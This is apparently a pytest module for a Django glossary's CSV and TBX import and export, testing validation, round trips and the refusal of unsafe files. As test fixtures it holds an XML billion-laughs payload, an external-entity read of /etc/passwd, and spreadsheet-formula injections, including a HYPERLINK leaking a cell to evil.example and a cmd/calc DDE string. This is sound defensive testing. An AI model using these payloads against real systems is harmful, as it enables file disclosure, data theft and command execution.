"""CSV and TBX: parsing, the all-or-nothing import and its report, export round trips."""

import csv
import io
import re
from dataclasses import dataclass

import pytest
from django.core.exceptions import ValidationError
from django.db import transaction
from hypothesis import given, settings
from hypothesis import strategies as st

from accounts.models import Activity
from glossary.exchange import (
    FORMULA_STARTS,
    ImportFileError,
    csv_cell_neutralise,
    csv_cell_restore,
    parse_csv,
    parse_tbx,
    parse_xml,
    write_csv,
    write_tbx,
)
from glossary.models import DictionaryEntry
from glossary.services import entry_create, entry_set_archived, glossary_apply, glossary_import_file
from glossary.tests.factories import DictionaryEntryFactory, seed_entries

pytestmark = pytest.mark.django_db

HEADER = "term_original,term_corrected,language_code,context\n"


def run(user, text: str | bytes, name="glossary.csv", dry_run=False):
    data = text.encode() if isinstance(text, str) else text
    return glossary_import_file(user=user, filename=name, data=data, dry_run=dry_run)


def entries():
    return sorted(
        DictionaryEntry.objects.values_list(
            "term_original", "term_corrected", "language_code", "context"
        )
    )


# --- CSV ---------------------------------------------------------------------------------


def test_csv_import_adds_updates_and_skips_with_reasons(editor):
    entry_create(user=editor, term_original="implane", term_corrected="implnt")
    entry_create(user=editor, term_original="veneers", term_corrected="veneers")
    archived = entry_create(user=editor, term_original="crwn", term_corrected="crown")
    entry_set_archived(entry=archived, archived=True, user=editor)
    glossary_apply(text="implane", language_code="en")  # a built matcher to invalidate

    report = run(
        editor,
        HEADER
        + "Implane,implant,en,surgical\n"  # same entry ignoring case: updated
        + "veneers,veneers,en,\n"  # unchanged
        + "endodontik,endodontic,en,root-canal\n"
        + "faceta,carilla,es,prosthetics\n"
        + "endodontik,endodontic,en,\n"  # repeats line 4
        + "CRWN,crown,en,\n",  # archived
    )
    assert report.imported and not report.problems
    assert [(r.term_original, r.language_code) for r in report.added] == [
        ("endodontik", "en"),
        ("faceta", "es"),
    ]
    assert [(r.term_original, r.term_corrected) for r in report.updated] == [("implane", "implant")]
    assert [(r.where, r.reason) for r in report.skipped] == [
        ("line 3", "already in the dictionary, unchanged"),
        ("line 6", "repeats line 4"),
        ("line 7", "matches an archived entry: restore it to change it"),
    ]
    assert DictionaryEntry.objects.get(term_original="implane").context == "surgical"
    assert glossary_apply(text="implane endodontik", language_code="en")[0] == (
        "implant endodontic"
    )
    assert glossary_apply(text="faceta", language_code="es")[0] == "carilla"
    assert (
        Activity.objects.filter(action="dictionary.create", details__import="glossary.csv").count()
        == 2
    )
    assert (
        Activity.objects.filter(action="dictionary.update", details__import="glossary.csv").count()
        == 1
    )


def test_an_empty_context_leaves_the_existing_one(editor):
    entry_create(user=editor, term_original="implane", term_corrected="implnt", context="surgical")
    run(editor, "term_original,term_corrected\nimplane,implant\n")
    assert entries() == [("implane", "implant", "en", "surgical")]


def test_dry_run_reports_without_writing(editor):
    report = run(editor, HEADER + "implane,implant,en,\n", dry_run=True)
    assert [r.term_original for r in report.added] == ["implane"]
    assert not report.imported and not report.problems
    assert not DictionaryEntry.objects.exists()


@pytest.mark.parametrize(
    ("row", "problem"),
    [
        (",implant,en,", "line 3: The original term is empty."),
        ("implane,,en,", "line 3: The correct term is empty."),
        ("   ,implant,en,", "line 3: The original term is empty."),
        ("?!?,implant,en,", "line 3: The original term “?!?” has no letter or digit"),
        ("implane,implant,xx,", "line 3: Unknown language code “xx”"),
        ("endodontic,endodontics,en,", "line 3: “endodontic” (en) is also on line 2"),
    ],
)
def test_one_bad_row_means_nothing_is_imported(editor, row, problem):
    report = run(editor, HEADER + "endodontic,endodontic,en,\n" + row + "\nveneers,veneers,en,\n")
    assert not report.imported
    assert any(p.startswith(problem) for p in report.problems), report.problems
    assert not report.added and not report.updated
    assert not DictionaryEntry.objects.exists()


def test_every_problem_is_listed(editor):
    report = run(editor, HEADER + ",a,en,\nb,,en,\nc,d,zz,\n")
    assert [p.split(":")[0] for p in report.problems] == ["line 2", "line 3", "line 4"]


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"", "The file is empty."),
        (b"original,corrected\nimplane,implant\n", "Unknown column(s) in the header: 'original'"),
        (b"term_original,context\nimplane,x\n", "The header lacks term_corrected"),
        (b"implane,implant,en\n", "Unknown column(s) in the header: 'implane'"),
        (
            "term_original,term_corrected\nimplant,implante\u0301\n".encode("utf-16"),
            "not UTF-8",
        ),
        (
            "term_original,term_corrected\nprótesis,prótesis\n".encode("cp1252"),
            "not UTF-8 text (byte 0xf3",
        ),
        (b"term_original,term_corrected\na,b,c\n", "Line 2 has 3 fields but the header has 2"),
        (b'term_original,term_corrected\n"a,b\n', "The CSV cannot be read"),
        (b"term_original,term_corrected,term_original\na,b,c\n", "more than once"),
    ],
)
def test_bad_csv_files_get_one_clear_message(editor, data, message):
    report = run(editor, data)
    assert not report.imported
    assert len(report.problems) == 1 and message in report.problems[0], report.problems
    assert not DictionaryEntry.objects.exists()


def test_a_file_over_the_limit_is_refused(editor, settings):
    settings.GLOSSARY_IMPORT_MAX_BYTES = 5_000_000
    big = HEADER + "implane,implant,en,surgical\n" * 400_000  # about 11 MB
    report = run(editor, big)
    assert report.problems == [
        "The file is 11.2 MB; the largest glossary file Max imports is 5.0 MB. "
        "Split it into smaller files and import each."
    ]
    assert not DictionaryEntry.objects.exists()


def test_csv_with_bom_semicolons_and_region_tags(editor):
    data = "\ufeffterm_original;term_corrected;language_code\nimplane;implant;en-US\n".encode()
    report = run(editor, data)
    assert report.imported, report.problems
    assert entries() == [("implane", "implant", "en", None)]


def test_csv_round_trip(editor):
    seed_entries(editor)
    entry_create(
        user=editor, term_original='say "ah", please', term_corrected="say ah", language_code="es"
    )
    exported = write_csv(DictionaryEntry.objects.all())
    assert exported.startswith(
        "\ufeffterm_original,term_corrected,language_code,context,usage_count"
    )
    before = entries()
    DictionaryEntry.objects.all().update(term_corrected="zzz")
    report = run(editor, exported.encode())
    assert report.imported and len(report.updated) == 7
    assert entries() == before


# --- TBX ---------------------------------------------------------------------------------

TBX_V2 = """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE martif SYSTEM "TBXBasiccoreStructV02.dtd">
<martif type="TBX-Basic-V1" xml:lang="en-US">
  <martifHeader><fileDesc><sourceDesc><p>memoQ</p></sourceDesc></fileDesc></martifHeader>
  <text><body>
    <termEntry id="c1">
      <descrip type="subjectField">surgical</descrip>
      <langSet xml:lang="en-US">
        <tig><term>implant</term>
          <termNote type="administrativeStatus">preferredTerm-admn-sts</termNote></tig>
        <tig><term>implane</term>
          <termNote type="administrativeStatus">deprecatedTerm-admn-sts</termNote></tig>
        <tig><term>implnt</term>
          <termNote type="administrativeStatus">notRecommendedTerm-admn-sts</termNote></tig>
      </langSet>
      <langSet xml:lang="es">
        <ntig><termGrp><term>implante</term></termGrp></ntig>
      </langSet>
    </termEntry>
    <termEntry id="c2">
      <langSet xml:lang="en"><tig><term>veneers</term></tig></langSet>
    </termEntry>
  </body></text>
</martif>
"""

TBX_V3 = """<?xml version="1.0" encoding="UTF-8"?>
<tbx type="TBX-Basic" style="dca" xml:lang="en" xmlns="urn:iso:std:iso:30042:ed-2">
  <tbxHeader><fileDesc><sourceDesc><p>Trados</p></sourceDesc></fileDesc></tbxHeader>
  <text><body>
    <conceptEntry id="c1">
      <langSec xml:lang="hi">
        <descrip type="subjectField">दंत</descrip>
        <termSec><term>इम्प्लांट</term>
          <termNote type="administrativeStatus">preferredTerm-admn-sts</termNote></termSec>
        <termSec><term>इम्प्लेन</term>
          <termNote type="administrativeStatus">notRecommendedTerm-admn-sts</termNote></termSec>
      </langSec>
    </conceptEntry>
  </body></text>
</tbx>
"""


def test_tbx_v2_maps_preferred_and_deprecated_terms(editor):
    report = run(editor, TBX_V2, name="memoq.tbx")
    assert report.imported, report.problems
    # The preferred term of a concept with terms to avoid is what they become, not also a
    # canonical entry; a language with a preferred term only is one.
    assert entries() == [
        ("implane", "implant", "en", "surgical"),
        ("implante", "implante", "es", "surgical"),
        ("implnt", "implant", "en", "surgical"),
        ("veneers", "veneers", "en", None),
    ]
    assert report.added[0].where == "term entry 1 (id c1)"


def test_tbx_v3_with_namespace(editor):
    report = run(editor, TBX_V3, name="trados.xml")
    assert report.imported, report.problems
    assert entries() == [("इम्प्लेन", "इम्प्लांट", "hi", "दंत")]


def test_tbx_round_trip_and_the_exported_shape(editor):
    seed_entries(editor)
    entry_create(user=editor, term_original="A & <b>", term_corrected="ab", language_code="ar")
    exported = write_tbx(DictionaryEntry.objects.all(), source_note="test")
    root = parse_xml(exported.encode())
    assert root.tag == "martif"
    implane = next(
        e for e in root.iter("termEntry") if "implane" in [t.text for t in e.iter("term")]
    )
    (lang_set,) = implane.iter("langSet")
    assert lang_set.get("http://www.w3.org/XML/1998/namespace lang") == "en"
    assert [(t.find("term").text, t.find("termNote").text) for t in lang_set] == [
        ("implant", "preferredTerm-admn-sts"),
        ("implane", "notRecommendedTerm-admn-sts"),
    ]
    assert implane.find("descrip").text == "surgical"
    veneers = next(
        e for e in root.iter("termEntry") if "veneers" in [t.text for t in e.iter("term")]
    )
    assert len(list(veneers.iter("tig"))) == 1  # canonical: one preferred term

    before = entries()
    DictionaryEntry.objects.all().update(term_corrected="zzz", context=None)
    report = run(editor, exported.encode(), name="glossary.tbx")
    assert report.imported, report.problems
    assert entries() == before
    # Into an empty glossary, too: exactly the entries it came from, no extra canonical ones.
    DictionaryEntry.objects.all().delete()
    report = run(editor, exported.encode(), name="glossary.tbx")
    assert report.imported, report.problems
    assert entries() == before


@pytest.mark.parametrize("name", ["glossary.tbx", "glossary.csv"])
def test_an_entry_correcting_only_the_case_survives_export_and_import(editor, name):
    # The TBX import used to add the preferred term "COVID" as a canonical entry too, the
    # same original ignoring case, which replaced "covid" → "COVID" by "COVID" → "COVID".
    entry_create(user=editor, term_original="covid", term_corrected="COVID", context="virus")
    entry_create(user=editor, term_original="ct scan", term_corrected="CT scan")
    before = entries()
    writer = write_tbx if name.endswith(".tbx") else write_csv
    exported = writer(
        DictionaryEntry.objects.all(), **({"source_note": "x"} if writer is write_tbx else {})
    )
    DictionaryEntry.objects.all().delete()
    report = run(editor, exported, name=name)
    assert report.imported, report.problems
    assert entries() == before


@pytest.mark.parametrize("name", ["glossary.tbx", "glossary.csv"])
def test_joiners_and_direction_marks_of_real_words_are_accepted_and_round_trip(editor, name):
    # ZWJ/ZWNJ are how Hindi and Persian words are written; they were refused as
    # "invisible control characters … retype the text without it", which nobody can.
    entry_create(user=editor, term_original="क्\u200dष", term_corrected="क्ष", language_code="hi")
    entry_create(
        user=editor,
        term_original="می\u200cخواهم",
        term_corrected="\u200fمی\u200cخواهم",
        language_code="ar",
        context="\u200eISO 9001\u200e",
    )
    before = entries()
    writer = write_tbx if name.endswith(".tbx") else write_csv
    exported = writer(
        DictionaryEntry.objects.all(), **({"source_note": "x"} if writer is write_tbx else {})
    )
    DictionaryEntry.objects.all().delete()
    report = run(editor, exported, name=name)
    assert report.imported, report.problems
    assert entries() == before


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE martif [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
]>
<martif><text><body><termEntry><langSet xml:lang="en"><tig><term>&lol2;</term></tig>
</langSet></termEntry></body></text></martif>
"""

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE martif [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<martif><text><body><termEntry><langSet xml:lang="en"><tig><term>&secret;</term></tig>
</langSet></termEntry></body></text></martif>
"""


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (BILLION_LAUGHS, "declares entities or an inline DTD"),
        (EXTERNAL_ENTITY, "declares entities or an inline DTD"),
        ("<martif><text><body><termEntry>", "not well-formed XML (line 1, column 32)"),
        ("<html><body>hi</body></html>", "root element is <html>"),
        ("<martif><text><body></body></text></martif>", "contains no terms"),
        (
            "<martif><text><body><termEntry><tig><term>x</term></tig></termEntry></body></text></martif>",
            "has no language section",
        ),
        (
            TBX_V2.replace("UTF-8", "ISO-8859-1").replace("implane", "implanë").encode("latin-1"),
            "not UTF-8",
        ),
    ],
)
def test_unsafe_or_malformed_tbx_is_refused(editor, data, message):
    report = run(editor, data, name="bad.tbx")
    assert len(report.problems) == 1 and message in report.problems[0], report.problems
    assert not DictionaryEntry.objects.exists()


def test_tbx_rows_are_validated_like_csv_rows(editor):
    bad = TBX_V2.replace('xml:lang="es"', 'xml:lang="ja"').replace(
        "<term>veneers</term>", "<term> ... </term>"
    )
    report = run(editor, bad, name="bad.tbx")
    assert any("Unknown language code “ja”" in p for p in report.problems)
    assert any(p.startswith("term entry 2 (id c2): The original term") for p in report.problems)
    assert not DictionaryEntry.objects.exists()


def test_parsers_raise_one_error_type():
    with pytest.raises(ImportFileError):
        parse_csv(b"\xff\xfe")
    with pytest.raises(ImportFileError):
        parse_tbx(b"<martif")


# --- spreadsheet formulas (OWASP CSV injection) and text XML cannot carry -----------------

FORMULAS = [
    ('=HYPERLINK("http://evil.example/?"&A1,"implant")', "implant"),
    ("@SUM(A1:A9)", "sum"),
    ("+cmd|' /C calc'!A0", "calc"),
    ("-ectomy", "-ectomy"),
    ("'=quoted already", "quoted"),
    ("''+twice", "twice"),
]


def test_csv_export_neutralises_formulas_and_import_restores_them(editor):
    for original, corrected in FORMULAS:
        entry_create(user=editor, term_original=original, term_corrected=corrected)
    entry_create(
        user=editor, term_original="implane", term_corrected="implant", context="=1+1 surgical"
    )
    exported = write_csv(DictionaryEntry.objects.all())

    cells = [cell for row in csv.reader(io.StringIO(exported.lstrip("\ufeff"))) for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"implant")' in cells
    assert "'-ectomy" in cells and "'=1+1 surgical" in cells
    assert "'''+twice" in cells  # one more apostrophe, so import can take exactly one off
    assert "implane" in cells and "implant" in cells  # ordinary text is left alone

    before = entries()
    DictionaryEntry.objects.all().update(term_corrected="zzz", context=None)
    report = run(editor, exported.encode())
    assert report.imported, report.problems
    assert entries() == before


@given(st.text(alphabet=st.characters(blacklist_characters="\x00")))
def test_neutralising_a_cell_is_reversible_and_never_a_formula(value):
    written = csv_cell_neutralise(value)
    assert not written.startswith(FORMULA_STARTS)
    assert csv_cell_restore(written) == value


@dataclass
class Stored:
    """What the exporters read from a dictionary entry (any text the database can hold)."""

    term_original: str
    term_corrected: str
    language_code: str = "en"
    context: str | None = None
    usage_count: int = 0
    pk: str = "1"


NO_NUL = st.characters(blacklist_characters="\x00", blacklist_categories=("Cs",))
XML_ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")


@given(
    original=st.text(alphabet=NO_NUL, min_size=1),
    corrected=st.text(alphabet=NO_NUL, min_size=1),
    context=st.text(alphabet=NO_NUL),
)
def test_tbx_export_is_well_formed_for_any_text_and_reads_back(original, corrected, context):
    entry = Stored(original, corrected, context=context or None)
    exported = write_tbx([entry], source_note=context)
    parse_xml(exported.encode())  # well-formed, whatever the text
    rows = {(r.term_original, r.term_corrected, r.context) for r in parse_tbx(exported.encode())}
    expected_context = " ".join(XML_ILLEGAL.sub("", context).split())
    kept_original, kept_corrected = XML_ILLEGAL.sub("", original), XML_ILLEGAL.sub("", corrected)
    assert (kept_original, kept_corrected, expected_context) in rows


@given(
    original=st.text(alphabet=NO_NUL, min_size=1, max_size=40),
    corrected=st.text(alphabet=NO_NUL, min_size=1, max_size=40),
    context=st.text(alphabet=NO_NUL, max_size=40),
)
@settings(max_examples=60)
def test_whatever_the_glossary_accepts_round_trips_through_tbx_and_csv(
    original, corrected, context
):
    from accounts.models import User

    user = User.objects.system_user()
    try:
        with transaction.atomic():
            entry_create(
                user=user, term_original=original, term_corrected=corrected, context=context
            )
            stored = entries()
            for name, exported in (
                ("g.tbx", write_tbx(DictionaryEntry.objects.all(), source_note="x")),
                ("g.csv", write_csv(DictionaryEntry.objects.all())),
            ):
                DictionaryEntry.objects.all().delete()
                report = run(user, exported, name=name)
                assert report.imported, (name, report.problems)
                assert entries() == stored, name
            raise _Rollback
    except ValidationError:
        return  # refused with a message (empty, punctuation only, control characters)
    except _Rollback:
        pass


class _Rollback(Exception):
    """Undo one example's writes (Hypothesis runs many examples inside one test)."""


def test_a_stored_control_character_still_exports_well_formed_xml(editor):
    # Rows stored before control characters were refused (or written around the services).
    DictionaryEntryFactory(
        term_original="imp\x01lane", term_corrected="implant\x1f", context="surg\x0bical"
    )
    exported = write_tbx(DictionaryEntry.objects.all(), source_note="x")
    report = run(editor, exported, name="g.tbx")
    assert report.imported, report.problems
    assert ("implane", "implant", "en", "surgical") in entries()


@pytest.mark.parametrize("field", ["term_original", "term_corrected", "context"])
def test_control_characters_are_refused_with_a_message(editor, field):
    values = {"term_original": "implane", "term_corrected": "implant", "context": "surgical"}
    values[field] = values[field][:3] + "\x07" + values[field][3:]
    with pytest.raises(ValidationError) as refused:
        entry_create(user=editor, **values)
    assert "control or invalid character (U+0007)" in refused.value.message_dict[field][0]
    report = run(editor, HEADER + ",".join([*values.values()][:2]) + ",en," + values["context"])
    assert any("control or invalid character (U+0007)" in p for p in report.problems)
    assert not DictionaryEntry.objects.exists()
